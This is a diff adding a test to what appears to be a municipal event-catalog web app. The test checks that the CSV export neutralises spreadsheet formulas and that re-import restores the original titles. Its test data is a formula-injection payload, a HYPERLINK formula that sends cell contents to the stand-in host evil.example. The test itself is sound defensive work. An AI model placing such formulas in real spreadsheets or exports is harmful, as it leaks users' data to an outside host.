@@ -201,3 +201,24 @@ def test_native_ids_that_clash_with_an_imported_no_get_a_prefix(koganei, coordin
     importing.events_import(actor=coordinator, data=event_csv([row(NO=taken)]), municipality_code="132101")
     numbers = [r["NO"] for r in read_rows(exporting.events_csv(municipality=koganei))]
     assert numbers.count(taken) == 1 and f"M{taken}" in numbers
+
+
+def test_export_defuses_formulas_and_importing_it_gives_the_text_back(
+    client, koganei, kominkan, provider_member, make_opportunity
+):
+    """A provider's title that a spreadsheet would run as a formula is quoted in the public export,
+    and importing that export gives back the title as it was written."""
+    title = '=HYPERLINK("http://evil.example/?q="&A1,"詳細はこちら")'
+    opportunity = make_opportunity(
+        kominkan, provider_member, title=title, status="published", contact_phone="-", fee_note="+税"
+    )
+    response = client.get(reverse("catalog:export_csv"), {"municipality": "132101"})
+    (written,) = read_rows(response.content)
+    assert written["イベント名"] == "'" + title
+    assert (written["連絡先電話番号"], written["料金(詳細)"]) == ("'-", "'+税")
+    assert written["NO"] == str(opportunity.pk)  # a number: as it is
+
+    LearningOpportunity.objects.all().delete()
+    importing.events_import(actor=None, data=response.content, municipality_code="132101")
+    imported = LearningOpportunity.objects.get()
+    assert (imported.title, imported.contact_phone, imported.fee_note) == (title, "-", "+税")
